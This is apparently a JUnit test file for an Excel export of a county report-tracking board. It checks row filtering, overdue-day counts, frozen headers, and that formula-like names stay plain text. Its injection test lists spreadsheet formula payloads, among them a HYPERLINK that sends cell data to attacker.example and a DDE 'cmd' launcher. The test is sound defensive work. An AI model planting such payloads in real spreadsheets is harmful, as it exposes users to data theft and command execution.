package cn.fazhi.flow.campaign;

import static org.assertj.core.api.Assertions.assertThat;
import static org.mockito.ArgumentMatchers.any;
import static org.mockito.ArgumentMatchers.anyString;
import static org.mockito.Mockito.mock;
import static org.mockito.Mockito.when;

import cn.fazhi.flow.base.Messages;
import cn.fazhi.flow.report.ReportStatus;
import cn.fazhi.flow.review.Deadline;
import java.io.ByteArrayInputStream;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.util.PaneInformation;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The board's .xlsx: the townships the board's filter lets through, the holder as the board names them, the days
 * overdue as the board counts them, a frozen header; and against formula injection: a county, township or user name
 * that starts as a formula would stays the same text in a text cell that Excel keeps text even when the cell is
 * edited.
 */
class BoardWorkbookTest {

    private static final ZoneId ZONE = ZoneId.of("Asia/Shanghai");
    private static final Instant NOW = Instant.parse("2026-12-03T09:00:00Z");

    @Test
    void theSheetHoldsTheFilteredRowsWithHoldersAndDaysOverdueUnderAFrozenHeader() throws Exception {
        Instant due = NOW.minusSeconds(60);
        long daysLeft = Deadline.daysLeft(due, NOW);
        BoardRow lateDraft = new BoardRow(
                1, "甲镇", 7, ReportStatus.DRAFTING, "Task_Draft", null, null, null, due, daysLeft, true, 0, NOW);
        BoardRow claimed = new BoardRow(
                2, "乙镇", 8, ReportStatus.DRAFTING, "Task_Draft", "drafter2", "王芳", null, due, daysLeft, true, 0, NOW);
        BoardRow inReview = new BoardRow(
                3, "丙乡", 9, ReportStatus.LEGAL_REVIEW, "Task_LegalReview", null, null, NOW, due, null, false, 1, NOW);
        BoardFilter filter = new BoardFilter(ReportStatus.DRAFTING, true);
        List<BoardRow> rows =
                Stream.of(lateDraft, claimed, inReview).filter(filter::test).toList();

        byte[] xlsx = new BoardWorkbook(echo(), Locale.CHINESE, ZONE).write(campaign("测试县"), filter, rows, NOW);

        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            Sheet sheet = book.getSheetAt(0);
            assertThat(sheet.getLastRowNum()).isEqualTo(BoardWorkbook.HEADER_ROWS + 2);
            assertThat(sheet.getRow(2).getCell(0).getStringCellValue())
                    .contains("campaign.xlsx.filterStatus status.DRAFTING")
                    .contains("campaign.xlsx.filterOverdue");
            Row first = sheet.getRow(BoardWorkbook.HEADER_ROWS + 1);
            Row second = sheet.getRow(BoardWorkbook.HEADER_ROWS + 2);
            assertThat(first.getCell(0).getStringCellValue()).isEqualTo("甲镇");
            assertThat(second.getCell(0).getStringCellValue()).isEqualTo("乙镇");
            assertThat(first.getCell(3).getStringCellValue()).isEqualTo("campaign.board.pool");
            assertThat(second.getCell(3).getStringCellValue()).isEqualTo("王芳");
            int daysOverdue = BoardWorkbook.COLUMNS.indexOf("campaign.xlsx.daysOverdue");
            int daysLeftColumn = BoardWorkbook.COLUMNS.indexOf("campaign.xlsx.daysLeft");
            // A minute late: the board says 逾期 1 天, and so does the sheet.
            assertThat(lateDraft.daysOverdue()).isEqualTo(1L);
            assertThat(first.getCell(daysOverdue).getNumericCellValue()).isEqualTo(1.0);
            assertThat(first.getCell(daysLeftColumn)).isNull();
            assertThat(sheet.getRow(BoardWorkbook.HEADER_ROWS)
                            .getCell(daysOverdue)
                            .getStringCellValue())
                    .isEqualTo("campaign.xlsx.daysOverdue");
            assertThat(first.getCell(4).getStringCellValue()).isEmpty();
            assertThat(first.getCell(5).getStringCellValue()).isEqualTo("2026年12月3日 16:59");
            PaneInformation pane = sheet.getPaneInformation();
            assertThat(pane).isNotNull();
            assertThat(pane.isFreezePane()).isTrue();
            assertThat(pane.getHorizontalSplitPosition()).isEqualTo((short) (BoardWorkbook.HEADER_ROWS + 1));
            assertThat(pane.getVerticalSplitPosition()).isZero();
        }
    }

    @Test
    void anUnfilteredSheetSaysNoFilterAndCountsDaysLeft() throws Exception {
        Instant due = NOW.plusSeconds(3 * 86_400 + 60);
        BoardRow onTime = rowAt(NOW, due);

        byte[] xlsx = new BoardWorkbook(echo(), Locale.CHINESE, ZONE)
                .write(campaign("测试县"), BoardFilter.ALL, List.of(onTime), NOW);

        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            Sheet sheet = book.getSheetAt(0);
            assertThat(sheet.getRow(2).getCell(0).getStringCellValue()).isEmpty();
            Row first = sheet.getRow(BoardWorkbook.HEADER_ROWS + 1);
            assertThat(first.getCell(BoardWorkbook.COLUMNS.indexOf("campaign.xlsx.daysLeft"))
                            .getNumericCellValue())
                    .isEqualTo(3.0);
            assertThat(first.getCell(BoardWorkbook.COLUMNS.indexOf("campaign.xlsx.daysOverdue")))
                    .isNull();
            assertThat(onTime.daysOverdue()).isNull();
        }
    }

    @Test
    void daysOverdueStartAtTheFirstSecondPastTheDeadline() {
        Instant due = NOW;
        assertThat(rowAt(NOW.minusSeconds(1), due).daysOverdue()).isNull();
        assertThat(Deadline.daysLeft(due, NOW.minusSeconds(1))).isZero();
        assertThat(rowAt(NOW.plusSeconds(1), due).daysOverdue()).isEqualTo(1);
        assertThat(rowAt(NOW.plusSeconds(86_400), due).daysOverdue()).isEqualTo(1);
        assertThat(rowAt(NOW.plusSeconds(86_401), due).daysOverdue()).isEqualTo(2);
    }

    /** A draft's row on the board at {@code now}, not yet submitted. */
    private static BoardRow rowAt(Instant now, Instant due) {
        return new BoardRow(
                1,
                "甲镇",
                7,
                ReportStatus.DRAFTING,
                "Task_Draft",
                null,
                null,
                null,
                due,
                Deadline.daysLeft(due, now),
                !now.isBefore(due),
                0,
                now);
    }

    /** Messages that answer with the key and its arguments, so each cell shows what it was made of. */
    private static Messages echo() {
        Messages messages = mock(Messages.class);
        when(messages.get(any(Locale.class), anyString(), any(Object[].class)))
                .thenAnswer(call -> Arrays.stream(call.getArguments())
                        .skip(1)
                        .flatMap(a -> a instanceof Object[] args ? Arrays.stream(args) : Stream.of(a))
                        .map(String::valueOf)
                        .collect(Collectors.joining(" ")));
        return messages;
    }

    private static CampaignSummary campaign(String county) {
        return new CampaignSummary(1, 1, county, 2026, NOW, 10, 10, LocalDate.of(2027, 4, 1), "admin", NOW, 1, true);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://attacker.example/?\"&A1,\"点此\")",
                "+1+cmd|' /C calc'!A0",
                "-2+3",
                "@SUM(1,2)",
                "\t=1+1",
                "\r=1+1"
            })
    void aNameThatLooksLikeAFormulaStaysText(String name) throws Exception {
        Instant now = Instant.parse("2026-03-01T00:00:00Z");
        CampaignSummary campaign =
                new CampaignSummary(1, 1, name, 2026, now, 10, 10, LocalDate.of(2027, 4, 1), "admin", now, 1, true);
        BoardRow row = new BoardRow(1, name, 7, ReportStatus.DRAFTING, null, "x", name, null, now, 3L, false, 0, now);

        byte[] xlsx =
                new BoardWorkbook(echo(), Locale.CHINESE, ZONE).write(campaign, BoardFilter.ALL, List.of(row), now);

        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            Sheet sheet = book.getSheetAt(0);
            Cell title = sheet.getRow(0).getCell(0);
            Cell township = sheet.getRow(BoardWorkbook.HEADER_ROWS + 1).getCell(0);
            Cell holder = sheet.getRow(BoardWorkbook.HEADER_ROWS + 1).getCell(3);
            for (Cell cell : List.of(title, township, holder)) {
                assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
                assertThat(cell.getCellStyle().getQuotePrefixed()).isTrue();
            }
            assertThat(township.getStringCellValue()).isEqualTo(name);
            assertThat(holder.getStringCellValue()).isEqualTo(name);
            assertThat(title.getStringCellValue()).contains(name);
            assertThat(book.getFontAt(title.getCellStyle().getFontIndex()).getBold())
                    .isTrue();
        }
    }
}
